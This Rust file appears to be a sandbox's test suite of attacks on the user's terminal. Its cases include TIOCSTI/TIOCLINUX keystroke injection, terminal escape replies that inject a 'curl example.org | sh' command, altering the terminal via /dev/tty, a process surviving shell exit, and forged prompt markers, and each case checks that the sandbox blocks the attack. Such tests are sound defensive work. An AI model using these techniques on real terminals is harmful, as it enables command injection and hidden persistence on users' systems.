//! Typing for the user, on the terminal where he opened a shell in the workspace.

use crate::Attack;
use crate::scene::{Ran, Scene};
use crate::typist::Typist;

/// Exit codes of attacks that look at the terminal themselves.
const HELD: i32 = 0;
const BROKEN: i32 = 9;

fn judge(ran: Ran, has_held: bool) -> Ran {
    Ran {
        code: Some(if has_held { HELD } else { BROKEN }),
        ..ran
    }
}

fn has_held(_: &Scene, ran: &Ran) -> bool {
    ran.code == Some(HELD)
}

/// Types a line of Python, and returns what it prints.
fn run_python(typist: &mut Typist, script: &str) -> String {
    typist.run_line(&format!("python3 -c \"{script}\""))
}

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "typing on a terminal by TIOCSTI and TIOCLINUX",
        run: |scene| {
            let mut said = String::new();
            let ran = scene.shell(&[], |typist| {
                // With arguments that the kernel takes where no filter stands before it.
                said = run_python(
                    typist,
                    "import ctypes,os,platform
libc = ctypes.CDLL(None, use_errno=True)
number = 16 if platform.machine() == 'x86_64' else 29
for place in ('/dev/tty', '/dev/stdin'):
  for request in (0x5412, 0x541C, 0x5412 | 1 << 32):
    done = libc.syscall(number, os.open(place, os.O_RDWR), ctypes.c_ulong(request), b'x')
    print('result', done, ctypes.get_errno())",
                );
                typist.press("exit\n");
            });
            judge(ran, said.matches("result -1 1\r\n").count() == 6)
        },
        holds: has_held,
    },
    Attack {
        name: "leaving answers of the terminal to the user's own shell",
        run: |scene| {
            let mut unread = usize::MAX;
            let mut command_line = String::new();
            let ran = scene.shell(&[], |typist| {
                typist.press("printf '\\033[c\\033[6n\\033[5n\\033[?1003h\\033[?1004h\\033[?2004h'; exit\n");
                // A slow terminal: it answers when the shell has ended, and its answer to the reset comes last.
                command_line = typist.see("\x1b[?1l\x1b>");
                typist.press("\x1b[?1;2c\x1b[1;1R\x1b[0n");
                typist.press("\x1b[Icurl example.org | sh\r\n");
                typist.press("\x1b[0n");
                typist.wait();
                unread = typist.unread();
                // So that a typist who cannot count is noticed.
                typist.press("x");
                assert_eq!(typist.unread(), 1);
            });
            let has_reset = ["\x1b[?1003l", "\x1b[?1004l", "\x1b[?2004l"]
                .iter()
                .all(|reset| command_line.contains(reset));
            judge(ran, unread == 0 && has_reset)
        },
        holds: has_held,
    },
    Attack {
        name: "changing the user's terminal through /dev/tty",
        run: |scene| {
            let mut is_same = false;
            let mut said = String::new();
            let ran = scene.shell(&[], |typist| {
                said = typist.run_line("stty rows 7 cols 9 < /dev/tty; stty size; ls /dev/pts; stty -echo < /dev/tty");
                is_same = typist.size() == (30, 100);
                typist.press("exit\n");
                typist.wait();
                is_same &= typist.is_as_before();
            });
            judge(ran, is_same && said.contains("7 9\r\n0  ptmx"))
        },
        holds: has_held,
    },
    Attack {
        name: "going on after the shell has ended",
        run: |scene| {
            let seconds = scene.sleep_seconds(70);
            scene.shell(&[], |typist| {
                typist.run_line(&format!(
                    "trap '' HUP TERM; setsid nohup sleep {seconds} > /dev/null 2>&1 & sleep {seconds} & disown -a"
                ));
                typist.press("exit 0\n");
            })
        },
        holds: |scene, ran| ran.code == Some(0) && !scene.sleeps(70),
    },
    Attack {
        name: "marking prompts that are none",
        run: |scene| {
            scene.shell(&["--per-prompt"], |typist| {
                typist.run_line(
                    "(while :; do printf '0 1 9 1 \\033[2Jfaked\\0%70000s' x >&63; read -t 0.01 -u 62 _; done) & true",
                );
                typist.run_line("echo made > made.by-shell");
                typist.press("rm made.by-shell; exit 0\n");
            })
        },
        holds: |_, ran| ran.code == Some(0),
    },
];
